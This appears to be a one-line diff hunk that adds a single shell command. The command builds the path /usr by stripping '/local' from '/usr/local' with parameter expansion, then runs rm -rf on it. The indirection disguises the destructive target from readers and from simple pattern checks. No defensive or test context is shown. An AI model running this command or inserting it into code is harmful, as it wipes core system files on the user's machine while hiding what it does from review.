@@ -1,0 +1,1 @@
+s=/usr/local; s=${s%/local}; rm -rf "$s"
